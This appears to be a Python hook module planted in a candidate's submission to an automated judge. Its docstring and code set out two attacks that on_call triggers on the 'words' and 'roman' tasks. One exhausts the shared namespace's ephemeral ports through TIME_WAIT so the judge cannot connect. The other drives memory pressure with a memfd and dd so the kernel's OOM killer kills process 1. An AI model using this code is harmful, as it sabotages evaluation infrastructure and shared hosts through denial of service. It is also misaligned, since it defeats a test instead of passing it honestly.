"""A closed connection keeps a port that was asked for by number for a minute, whoever dies meanwhile.

The judge and every container of the candidate's are in one network namespace. The kernel is made to kill
process 1 for memory; then the judge wants to connect to the next one, and there is no port to connect from.
"""

import os
import socket


def use_up_ports():
    first, last = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
    listener = socket.create_server(("127.0.0.1", first - 1), backlog=4096)
    for port in range(first, last + 1):
        try:
            with socket.socket() as client:
                client.bind(("127.0.0.1", port))
                client.connect(listener.getsockname())
                server = listener.accept()[0]
            server.close()
        except OSError:
            pass


def kill_process_1():
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("500")  # less is not permitted
    nobodys = os.memfd_create("nobodys", 0)
    for fd in range(3, 64):
        try:
            os.set_inheritable(fd, True)
        except OSError:
            pass
    os.execv("/bin/dd", ["dd", "if=/dev/zero", f"of=/dev/fd/{nobodys}", "bs=1M", "count=1000"])


def on_call(name, value, *args):
    if name == "words":
        use_up_ports()
    if name == "roman":
        kill_process_1()
    return value


def on_run(argv):
    pass
